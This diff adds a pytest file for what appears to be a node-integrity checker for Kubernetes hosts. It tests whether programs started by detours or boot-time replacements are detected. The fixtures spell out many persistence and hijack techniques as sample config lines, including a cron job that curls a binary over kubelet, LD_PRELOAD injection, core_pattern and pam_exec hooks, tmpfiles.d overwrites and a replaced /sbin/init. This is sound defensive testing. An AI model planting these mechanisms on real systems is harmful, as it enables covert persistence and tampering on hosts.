@@ -1,0 +1,314 @@
+"""What starts another program by a detour, or changes at the next start what was checked, is not passed.
+
+What each detour starts is known from the programs themselves: systemd.exec(5), sh(1), execve(2), udev(7),
+tmpfiles.d(5); Go's encoding/json (keys in any case); the Container Device Interface.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from tests.node.test_starters import ANOTHER_BUILD, UNIT, Change, codes, link, script
+from tests.node.test_startup import CONFIGURATION, CRI, POD, Tree, pod
+
+WEB = "/etc/kubernetes/manifests/web"
+GRUB = "/etc/default/grub"
+TEMPORARY = "/etc/tmpfiles.d/x.conf"
+
+
+@pytest.fixture
+def tree(tmp_path: Path) -> Tree:
+    one = Tree(tmp_path)
+    one.manifest["files"][0]["go"] = {"path": "k8s.io/kubernetes/cmd/kubelet"}
+    with one.place("/opt/plain/agent").open("ab") as file:
+        file.write(ANOTHER_BUILD)
+    return one
+
+
+def service(text: str) -> Change:
+    return lambda t: t.write(UNIT, f"[Service]\n{text}\n")
+
+
+def file(path: str, text: str) -> Change:
+    return lambda t: t.write(path, text)
+
+
+def copy(path: str) -> Change:
+    def put(tree: Tree) -> None:
+        tree.place(path).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy(tree.place("/opt/plain/agent"), tree.place(path))
+
+    return put
+
+
+def specification(text: str) -> Change:
+    return (
+        lambda t: t.add(CONFIGURATION, f'[{CRI}.runtimes.x]\nbase_runtime_spec = "/etc/spec.json"\n'),
+        lambda t: t.write("/etc/spec.json", text),
+    )
+
+
+def all_of(*changes: Change) -> Change:
+    return tuple(one for change in changes for one in (change if isinstance(change, tuple) else (change,)))
+
+
+def is_data(tree: Tree) -> None:
+    tree.place("/opt/plain/agent").chmod(0o644)
+
+
+def follow_user(tree: Tree) -> None:
+    tree.write("/var/lib/systemd/linger/joe", "")
+    tree.write("/etc/passwd", "root:x:0:0::/root:/bin/sh\njoe:x:0:0::/home/joe:/bin/sh\n")
+    tree.write("/home/joe/.config/systemd/user/x.service", "[Service]\nExecStart=/opt/plain/agent\n")
+
+
+BUILDS: dict[str, Change] = {
+    "a directory that a shell enters": service("ExecStart=/bin/sh -c 'cd /opt/plain && ./agent'"),
+    "the unit's directory": service("WorkingDirectory=/opt/plain\nExecStart=/bin/sh -c ./agent"),
+    "PATH": service("ExecStart=/bin/sh -c 'PATH=/opt/plain agent'"),
+    "cron's directory": file("/etc/cron.d/x", "@reboot root cd /opt/plain && ./agent\n"),
+    "another root": all_of(copy("/opt/r/usr/bin/web"), service("ExecStart=/usr/sbin/chroot /opt/r /usr/bin/web")),
+    "the root of a process": service("ExecStart=/proc/self/root/opt/plain/agent"),
+    "the root of a process, by cron": file("/etc/cron.d/x", "@reboot root /proc/1/root/opt/plain/agent\n"),
+    "a path with a blank": all_of(copy("/opt/a b/agent"), service('ExecStart="/opt/a b/agent"')),
+    "standard input": service("ExecStart=/bin/sh\nStandardInput=data\nStandardInputText=exec /opt/plain/agent"),
+    "encoded standard input": service(
+        "ExecStart=/bin/sh\nStandardInput=data\nStandardInputData=ZXhlYyAvb3B0L3BsYWluL2FnZW50Cg=="
+    ),
+    "a file as standard input": all_of(
+        file("/opt/in", "exec /opt/plain/agent\n"), service("ExecStart=/bin/sh\nStandardInput=file:/opt/in")
+    ),
+    "a script with a null byte": all_of(
+        lambda t: script(t, "/opt/go", "exec /opt/plain/agent\n\0"), service("ExecStart=/opt/go")
+    ),
+    "the interpreter of a script": all_of(
+        file("/opt/go", "#!/opt/plain/agent\n"), lambda t: t.place("/opt/go").chmod(0o755), service("ExecStart=/opt/go")
+    ),
+    "the loader": all_of(is_data, service("ExecStart=/lib64/ld-linux-x86-64.so.2 /opt/plain/agent")),
+    "a copy": all_of(is_data, service("ExecStart=/bin/sh -c 'install /opt/plain/agent /run/a; /run/a'")),
+    "at": lambda t: script(t, "/var/spool/at/a00001", "/opt/plain/agent\n"),
+    "cloud-init's scripts": lambda t: script(t, "/var/lib/cloud/scripts/per-boot/x", "/opt/plain/agent\n"),
+    "cloud-init": file("/etc/cloud/cloud.cfg.d/9.cfg", "bootcmd:\n - [/opt/plain/agent]\n"),
+    "the network's early scripts": lambda t: script(
+        t, "/etc/NetworkManager/dispatcher.d/pre-up.d/x", "/opt/plain/agent\n"
+    ),
+    "a plugin of auditd": file("/etc/audit/plugins.d/x.conf", "active = yes\npath = /opt/plain/agent\n"),
+    "an output of rsyslog": file("/etc/rsyslog.d/x.conf", 'action(type="omprog" binary="/opt/plain/agent")\n'),
+    "the kernel's core dumps": file("/etc/sysctl.d/x.conf", "kernel.core_pattern=|/opt/plain/agent\n"),
+    "logrotate": file("/etc/logrotate.conf", "postrotate\n/opt/plain/agent\nendscript\n"),
+    "PAM": file("/etc/pam.d/crond", "session optional pam_exec.so /opt/plain/agent\n"),
+    "tuned": lambda t: script(t, "/etc/tuned/x/script.sh", "/opt/plain/agent\n"),
+    "udev's own directory": all_of(
+        file("/etc/udev/rules.d/9.rules", 'ACTION=="add", RUN+="agent"\n'),
+        lambda t: link(t, "/usr/lib/udev/agent", "/opt/plain/agent"),
+    ),
+    "the bus' own directory": file(
+        "/usr/lib/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/opt/plain/agent\n"
+    ),
+    "a directory of the bus' configuration": all_of(
+        file("/etc/dbus-1/system.d/x.conf", "<busconfig><servicedir>/opt/d</servicedir></busconfig>"),
+        file("/opt/d/x.service", "[D-BUS Service]\nExec=/opt/plain/agent\n"),
+    ),
+    "the modules of EL7": lambda t: script(t, "/etc/sysconfig/modules/x.modules", "/opt/plain/agent\n"),
+    "a script in systemd's place": lambda t: script(t, "/sbin/init", "/opt/plain/agent &\nexec /lib/systemd/systemd\n"),
+    "a user without a session": follow_user,
+    "a kubeconfig's credentials": file("/etc/kubernetes/x.conf", "exec:\n  command: /opt/plain/agent\n"),
+}
+
+
+@pytest.mark.parametrize("how", BUILDS)
+def test_another_build_that_is_started_by_a_detour_fails(how: str, tree: Tree) -> None:
+    assert codes(BUILDS[how], tree) == {("fail", "other-build")}
+
+
+def overlay(options: str) -> Change:
+    return lambda t: t.add(
+        CONFIGURATION, f'[plugins."io.containerd.snapshotter.v1.overlayfs"]\nmount_options = ["{options}"]\n'
+    )
+
+
+def variable(name: str, value: str) -> str:
+    return f"    env:\n    - name: {name}\n      value: {value}\n"
+
+
+DOUBTS: dict[str, tuple[str, Change]] = {
+    "a preload file of more than 64 KiB": ("preload", file("/etc/ld.so.preload", " " * 70_000 + "/opt/x.so\n")),
+    "another init": ("kernel-command-line", file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 init=/opt/plain/init"\n')),
+    "another init of a boot entry": (
+        "kernel-command-line",
+        file("/boot/loader/entries/a.conf", "title x\noptions root=/dev/a fips=1 init=/opt/i\n"),
+    ),
+    "a unit of the command line": ("kernel-command-line", file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.run=/opt/i"\n')),
+    "a unit among credentials": (
+        "kernel-command-line",
+        file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.set_credential=systemd.extra-unit.x.service:abc"\n'),
+    ),
+    "systemd's search path": ("environment", file(GRUB, 'GRUB_CMDLINE_LINUX="SYSTEMD_UNIT_PATH=/opt/units"\n')),
+    "systemd's search path in its settings": (
+        "environment",
+        file("/etc/systemd/system.conf", "[Manager]\nManagerEnvironment=SYSTEMD_UNIT_PATH=/opt/units\n"),
+    ),
+    "a static pod's PATH": ("environment", file(POD, pod(more=variable("PATH", "/data:/usr/local/bin")))),
+    "devices of a static pod": (
+        "every-container",
+        file(POD, pod().replace("\nspec", "\n  annotations:\n    cdi.k8s.io/x: v.com/c=d\nspec")),
+    ),
+    "a kubelet's option with underscores": (
+        "wrapped",
+        service("ExecStart=/opt/plain/plain --container_runtime_endpoint=unix:///run/containerd/containerd.sock"),
+    ),
+    "containerd's configuration": (
+        "wrapped",
+        service("ExecStart=/opt/plain/plain --config /etc/containerd/config.toml"),
+    ),
+    "hooks in capitals": ("every-container", specification('{"HOOKS": {"createRuntime": [{"path": "/opt/x"}]}}')),
+    "hooks that are there twice": (
+        "configuration",
+        specification('{"hooks": {"createRuntime": [{"path": "/opt/x"}]}, "hooks": {}}'),
+    ),
+    "an overlay of another directory": ("configuration", overlay("lowerdir=/opt/x")),
+    "a listed program in another root": ("other-root", service("ExecStart=/usr/sbin/chroot /opt/r /usr/bin/kubelet")),
+    "a listed program of other mounts": (
+        "other-root",
+        service("ExecStart=/usr/bin/nsenter -t 1 -r/opt/r /usr/bin/kubelet"),
+    ),
+    "a container of runc": ("other-root", service("ExecStart=/usr/bin/runc run -b /opt/bundle x")),
+    "a container of ctr by a shell": (
+        "other-root",
+        service("ExecStart=/bin/sh -c 'ctr -n k8s.io run --net-host docker.io/o/api:1 api'"),
+    ),
+    "a component's container of Podman": (
+        "other-root",
+        service("ExecStart=/usr/bin/podman run --net=host quay.io/o/kube-apiserver:1"),
+    ),
+    "a pattern of paths": ("wrapped", service("ExecStart=/bin/sh -c '/opt/plai?/agent'")),
+    "text into a program": ("replaced-at-start", file(TEMPORARY, "w /usr/bin/kubele? - - - - #!/opt/plain/agent\n")),
+    "a preload file at the next start": ("replaced-at-start", file(TEMPORARY, "f /etc/ld.so.preload - - - - /o.so\n")),
+    "a static pod at the next start": (
+        "replaced-at-start",
+        file(TEMPORARY, "L /etc/kubernetes/manifests/x.yaml - - - - /opt/x.yaml\n"),
+    ),
+    "a runtime at the next start": (
+        "replaced-at-start",
+        file(TEMPORARY, "L+ /opt/containerd/bin/runc - - - - /opt/plain/runc\n"),
+    ),
+    "a configuration by a bind mount": ("mounted-over", file("/etc/fstab", "/opt/x /etc/containerd none bind 0 0\n")),
+    "all configurations by an overlay": (
+        "mounted-over",
+        file("/etc/fstab", "overlay /etc overlay lowerdir=/opt:/etc 0 0\n"),
+    ),
+    "units on a disk": ("mounted-over", file("/etc/fstab", "/dev/x /etc/systemd/system ext4 defaults 0 0\n")),
+    "a kubelet's configuration below a directory": (
+        "configuration",
+        lambda t: t.drop_in("WorkingDirectory=/srv\nExecStart=\nExecStart=/usr/bin/kubelet --config=k.yaml"),
+    ),
+    "PATH of everything": ("environment", file(GRUB, 'GRUB_CMDLINE_LINUX="systemd.setenv=PATH=/opt/plain"\n')),
+    "a mount over the programs": (
+        "replaced-at-start",
+        service("ExecStart=/bin/mount --bind /opt/plain /usr/bin"),
+    ),
+    "a copy over the programs": ("replaced-at-start", service("ExecStart=/bin/sh -c 'cp /opt/plain/* /usr/bin/ 2>&1'")),
+    "a written preload file": (
+        "replaced-at-start",
+        service("ExecStart=/bin/sh -c 'echo /opt/x.so > /etc/ld.so.preload'"),
+    ),
+    "a program that cron downloads": (
+        "replaced-at-start",
+        file("/etc/cron.d/x", "@reboot root curl http://x/k -o /usr/bin/kubelet\n"),
+    ),
+    "a variable of all units": (
+        "environment",
+        service("ExecStart=/usr/bin/systemctl set-environment LD_PRELOAD=/opt/x.so"),
+    ),
+    "a variable of a shell's command": (
+        "environment",
+        service("ExecStart=/bin/sh -c 'LD_PRELOAD=/x.so exec /usr/bin/kubelet'"),
+    ),
+    "cron's other root": (
+        "other-root",
+        file("/etc/cron.d/x", "@reboot root chroot /opt/r /usr/bin/kubelet\n"),
+    ),
+    "cron's container": ("other-root", file("/etc/cron.d/x", "@reboot root ctr run docker.io/o/api:1 x\n")),
+    "a large script without a first line": (
+        "too-large",
+        all_of(file("/opt/go", "#" * 300_000 + "\nexec /opt/plain/agent\n"), service("ExecStart=/bin/sh -e /opt/go")),
+    ),
+}
+
+
+@pytest.mark.parametrize("how", DOUBTS)
+def test_what_may_start_something_else_is_unknown(how: str, tree: Tree) -> None:
+    code, change = DOUBTS[how]
+
+    assert codes(change, tree) == {("unknown", code)}
+
+
+FAILURES: dict[str, tuple[str, Change]] = {
+    "a variable of the first process": (
+        "environment",
+        file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 LD_PRELOAD=/opt/x.so"\n'),
+    ),
+    "variables in capitals": ("environment", specification('{"Process": {"Env": ["LD_PRELOAD=/x.so"]}}')),
+    "an API server's option with underscores": (
+        "unlisted-image",
+        file(WEB, pod(name="web", image="o:1", command="[/opt/s, --etcd_servers=x]")),
+    ),
+    "an API server's option in a variable": (
+        "unlisted-image",
+        file(WEB, pod(name="web", image="o:1", command="[/opt/s, $(O)]", more=variable("O", "--etcd-servers=x"))),
+    ),
+    "a volume that PATH has before the program": ("mounted-over", file(POD, pod(mount="/usr/local/sbin"))),
+    "a C library that a file elsewhere names": (
+        "library-path",
+        all_of(
+            file("/etc/ld.so.conf", "include /opt/ld/*.conf\n"),
+            file("/opt/ld/a.conf", "/opt/lib\n"),
+            file("/opt/lib/libc.so.6", "x"),
+        ),
+    ),
+    "a C library below the operating system's": (
+        "library-path",
+        file("/etc/ld.so.cache", "x\0/usr/lib64/other/libc.so.6\0"),
+    ),
+}
+
+
+@pytest.mark.parametrize("how", FAILURES)
+def test_what_is_not_the_releases_fails(how: str, tree: Tree) -> None:
+    code, change = FAILURES[how]
+
+    assert codes(change, tree) == {("fail", code)}
+
+
+ORDINARY: dict[str, Change] = {
+    "systemd as init": file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 init=/usr/lib/systemd/systemd"\n'),
+    "a pod's usual PATH": file(POD, pod(more=variable("PATH", "/usr/local/sbin:/usr/local/bin"))),
+    "an application's container": service("ExecStart=/usr/bin/podman run quay.io/prometheus/node-exporter:v1"),
+    "images that are unpacked": service("ExecStart=/bin/sh -c 'ctr -n k8s.io images import /opt/images.tar'"),
+    "a node's own disks": file("/etc/fstab", "/dev/a /var/lib/kubelet xfs\n/dev/b /var xfs defaults 0 0\n"),
+    "a nodes' usual temporary files": file(
+        TEMPORARY, "L+ /etc/mtab - - - - ../proc/self/mounts\nC /etc/pam.d - - - -\n"
+    ),
+    "options of an overlay": overlay("volatile"),
+    "other rules": specification(json.dumps({"process": {"rlimits": []}, "Mounts": []})),
+    "a script that enters a directory": all_of(
+        lambda t: script(t, "/opt/plain/go", "cd /opt/plain\n./plain --check agent\nkubelet=1\n"),
+        service("ExecStart=/opt/plain/go"),
+    ),
+    "a generator that links a unit": lambda t: script(
+        t,
+        "/usr/lib/systemd/system-generators/selinux-autorelabel-generator.sh",
+        'unitdir="/usr/lib/systemd/system"\nln -sf "$unitdir/selinux-autorelabel.target" "$earlydir/default.target"\n',
+    ),
+    "a backup of the configuration": file("/etc/cron.d/x", "1 1 * * * root cp -r /etc/kubernetes /backup\n"),
+    "a shell that tests files": service("ExecStart=/bin/sh -c 'rm -f /tmp/*; [ -x /usr/bin/kubelet ]'"),
+}
+
+
+@pytest.mark.parametrize("how", ORDINARY)
+def test_what_ordinary_nodes_have_passes(how: str, tree: Tree) -> None:
+    assert codes(ORDINARY[how], tree) == set()
